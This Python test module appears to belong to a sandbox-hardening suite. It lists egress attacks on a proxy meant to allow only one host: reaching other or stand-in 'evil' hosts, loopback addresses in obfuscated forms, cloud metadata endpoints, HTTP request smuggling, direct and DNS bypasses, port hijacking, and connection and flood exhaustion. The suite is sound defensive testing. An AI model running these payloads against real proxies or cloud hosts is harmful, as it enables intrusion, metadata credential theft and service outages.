"""The attacks on the way out of a sandbox that may reach one host, ``allowed.test.org``: through the proxy, around it,
on it. Each begins by reaching that host, so that one which finds nothing open at all does not count as held."""

from tests.attacks.catalogue import Attack

_ASK = r"""
def ask(data, wait=3):
    with socket.socket() as s:
        s.settimeout(wait)
        try:
            s.connect(('127.0.0.1', 3128)); s.sendall(data); s.shutdown(socket.SHUT_WR)
            return b''.join(iter(lambda: s.recv(65536), b''))
        except OSError: return b''
def through(place):
    for data in ('CONNECT %s HTTP/1.1\r\nHost: allowed.test.org\r\n\r\n' % place,
                 'GET http://%s/ HTTP/1.1\r\nHost: allowed.test.org\r\n\r\n' % place):
        if b' 200 ' in ask(data.encode()).partition(b'\r\n')[0]: escaped('reached ' + place)
ports = [int(port) for port in sys.argv[1].split(',')]
good = 'allowed.test.org:' + sys.argv[4]
if b' 200 ' not in ask(('GET http://%s/ HTTP/1.1\r\nHost: x\r\n\r\n' % good).encode()): escaped('the way out itself')
"""
_STILL = (
    'python3 -c \'import urllib.request as u; print(u.urlopen("http://allowed.test.org:ALLOWED/", timeout=20)'
    ".read().decode())'"
)

WAY_OUT = tuple(
    Attack(name, _ASK + script, network=True, then=_STILL, heavy=heavy, timeout_s=40)
    for name, heavy, script in (
        (
            "reach other hosts through the proxy",
            False,
            r"""for place in ('evil.test.org:80', '8.8.8.8:443', '1.1.1.1:80', 'org:80'): through(place)
through('allowed.test.org.evil.org:80')
for port in (22, 25, 80, 443, 65535): through('allowed.test.org:%d' % port)
""",
        ),
        (
            "reach the host through the proxy",
            False,
            r"""names = ('127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f.1')
names += ('allowed.test.org',)
for port in ports:
    for name in names: through('%s:%d' % (name, port))
    through('allowed.test.org:%s@127.0.0.1:%d' % (sys.argv[4], port))
    through('127.0.0.1:%d#@%s' % (port, good))
""",
        ),
        (
            "reach the cloud's metadata through the proxy",
            False,
            r"""names = ('169.254.169.254', '2852039166', '[fd00:ec2::254]', '[::ffff:169.254.169.254]')
for name in (*names, '100.100.100.200'): through(name + ':80')
through('metadata.google.internal:80')
""",
        ),
        (
            "hide a request behind an allowed one",
            False,
            r"""evil = 'GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n' % ports[0]
chunked = 'Transfer-Encoding: chunked\r\n'
for more in ('', 'Content-Length: 0\r\n', chunked, 'Content-Length: 3\r\n' + chunked, 'Connection: keep-alive\r\n',
             'Content-Length: 0\r\nContent-Length: 9\r\n', 'Upgrade: x\r\nConnection: Upgrade\r\n'):
    for method in ('GET', 'POST'):
        chunk = '0\r\n\r\n' if 'chunked' in more else ''
        head = '%s http://%s/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%s\r\n' % (method, good, ports[0], more)
        if ask((head + chunk + evil).encode()).count(b'HTTP/1.1 200') > 1: escaped('two answers: ' + more)
""",
        ),
        (
            "go past the proxy",
            False,
            r"""connects(('127.0.0.1', int(sys.argv[4])))
for port in ports: connects(('127.0.0.1', port))
connects(('8.8.8.8', 443))
tries('resolved', lambda: socket.gethostbyname('allowed.test.org'))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: tries('sent', lambda: s.sendto(b'x', ('8.8.8.8', 53)))
""",
        ),
        (
            "take the proxy's place",
            False,
            r"""for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
    for host in ('127.0.0.1', '0.0.0.0'):
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, option, 1)
            def take():
                s.bind((host, 3128)); s.listen()
            tries('listens at ' + host, take)
""",
        ),
        (
            "open connections without end",
            True,
            r"""held, until = [], time.monotonic() + 8
while time.monotonic() < until:
    s = socket.socket(); s.settimeout(0.2)
    try: s.connect(('127.0.0.1', 3128)); s.send(b'GET ')
    except OSError: pass
    held.append(s)
    if len(held) > 1500: held.pop(0).close()
""",
        ),
        (
            "say more to the proxy than it takes",
            True,
            r"""def flood(data):
    with socket.socket() as s:
        s.settimeout(2)
        try:
            s.connect(('127.0.0.1', 3128))
            for _ in range(200): s.sendall(data)
        except OSError: pass
block = b'X' * (1 << 16)
post = 'POST http://%s/ HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n' % good
kinds = (block, b'GET http://' + block, post.encode() + block)
threads = [threading.Thread(target=flood, args=(kinds[n % 3],)) for n in range(60)]
for t in threads: t.start()
for t in threads: t.join()
""",
        ),
    )
)
